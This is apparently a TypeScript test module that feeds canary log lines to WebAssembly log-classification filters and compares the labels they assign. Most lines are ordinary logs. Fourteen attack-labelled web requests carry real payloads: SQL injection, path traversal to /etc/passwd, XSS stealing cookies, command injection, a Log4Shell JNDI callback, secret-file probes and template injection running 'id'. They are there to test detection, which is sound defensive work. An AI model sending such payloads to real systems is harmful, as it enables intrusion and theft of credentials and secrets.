/** Canaries: lines that any model has to label right. */
import type { Kind, Label } from "../../host/event.ts";
import { type Features, Filter } from "../../host/filter.ts";
import { recordOfLine } from "../../host/record.ts";
import { shipperTime } from "../../host/time.ts";

interface Canary {
  kind: Kind;
  label: Label;
  line: string;
}

/** When the shipper read them: the time in the lines, 17 November 2026. */
const CANARY_SECONDS = 1_794_909_943;

const CHROME =
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
const FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0";
const SAFARI =
  "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1";
const GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
const BINGBOT = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)";
const AHREFS = "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)";

function access(target: string, agent = CHROME, status = 200, referer = "-", method = "GET"): string {
  return `203.0.113.9 - - [17/Nov/2026:10:05:43 +0000] "${method} ${target} HTTP/1.1" ${status} 5316 "${referer}" "${agent}"`;
}

const of = (kind: Kind, label: Label, lines: readonly string[]): Canary[] =>
  lines.map((line) => ({ kind, label, line }));

/** Clear attacks, clear people, clear robots, and ordinary lines of each kind. */
const CANARIES: readonly Canary[] = [
  ...of("web", "attack", [
    access("/item.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-"),
    access("/search?q=%27%20OR%20%271%27%3D%271"),
    access("/list?sort=1%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--"),
    access("/view?page=../../../../../../etc/passwd"),
    access("/index.php?file=php://filter/convert.base64-encode/resource=config"),
    access("/q?s=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
    access("/p?name=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"),
    access("/ping?host=127.0.0.1%3Bcat%20/etc/passwd"),
    access("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", CHROME, 400, "-", "POST"),
    access("/?x=$%7Bjndi:ldap://198.51.100.7:1389/a%7D"),
    access("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", CHROME, 404),
    access("/.env", CHROME, 404),
    access("/.git/config", CHROME, 404),
    access("/?q={{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
  ]),
  ...of("web", "normal", [
    access("/"),
    access("/products/shoes?page=2", CHROME, 200, "https://www.example.com/products"),
    access("/assets/app.3f2a1b.js", FIREFOX, 200, "https://www.example.com/"),
    access("/images/logo.png", SAFARI, 304, "https://www.example.com/about"),
    access("/blog/2026/11/how-we-moved-our-database", FIREFOX, 200, "https://www.google.com/"),
    access("/search?q=winter+jackets", SAFARI, 200, "https://www.example.com/"),
    access("/favicon.ico", CHROME, 200, "https://www.example.com/"),
    access("/contact", CHROME, 200, "https://www.example.com/", "POST"),
  ]),
  ...of("web", "bot", [
    access("/", GOOGLEBOT),
    access("/robots.txt", BINGBOT),
    access("/blog/archive", AHREFS),
    access("/feed", "python-requests/2.32.3"),
    access("/api/status", "curl/8.5.0"),
  ]),
  ...of("auth", "normal", [
    "Nov 17 10:05:43 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update",
    "Nov 17 10:05:44 web1 sshd[1201]: Accepted publickey for deploy from 192.0.2.14 port 50112 ssh2: ED25519 SHA256:uNiVztksCsDhcc0u9e8BgrJXVGDELxDsoTFo6Ct9Y7c",
  ]),
  ...of("dns", "normal", [
    "Nov 17 10:05:43 ns1 dnsmasq[812]: query[A] www.example.com from 192.168.1.23",
    "Nov 17 10:05:43 ns1 dnsmasq[812]: reply www.example.com is 203.0.113.80",
  ]),
  ...of("firewall", "normal", [
    "Nov 17 10:05:43 gw kernel: [UFW ALLOW] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 SRC=192.0.2.14 DST=192.0.2.1 LEN=60 TOS=0x00 PREC=0x00 TTL=63 ID=4021 DF PROTO=TCP SPT=50112 DPT=443 WINDOW=64240 RES=0x00 SYN URGP=0",
  ]),
  ...of("app", "normal", [
    "2026-11-17T10:05:43Z [INFO] orders - Order created | IP: 203.0.113.9 | User: alice | ResponseTime: 35ms",
    '{"time":"2026-11-17T10:05:43Z","level":"info","service":"billing","msg":"invoice sent"}',
  ]),
  ...of("syslog", "normal", [
    "Nov 17 10:05:43 web1 systemd[1]: Started Daily apt download activities.",
    "Nov 17 10:05:43 web1 systemd[1]: logrotate.service: Deactivated successfully.",
  ]),
];

/** Label that each module gives to a canary; undefined where the filter had no memory for an event. */
export interface CanaryResult extends Canary {
  incumbent: Label | undefined;
  candidate: Label | undefined;
}

/** Labels of both modules for each canary, each as the first line of an instance. */
export function checkCanaries(incumbent: WebAssembly.Module, candidate: WebAssembly.Module): CanaryResult[] {
  const label = (module: WebAssembly.Module, line: string) =>
    Filter.load(module).event(recordOfLine(Buffer.from(line)), shipperTime(CANARY_SECONDS))?.label;
  return CANARIES.map((canary) => ({
    ...canary,
    incumbent: label(incumbent, canary.line),
    candidate: label(candidate, canary.line),
  }));
}

/** Features of each canary, as the first line of an instance, with its label. */
export function* canaryFeatures(module: WebAssembly.Module): Generator<{ label: Label; features: Features }> {
  for (const { label, line } of CANARIES) {
    const features = Filter.load(module).features(
      recordOfLine(Buffer.from(line)),
      shipperTime(CANARY_SECONDS),
    );
    if (features) yield { label, features };
  }
}
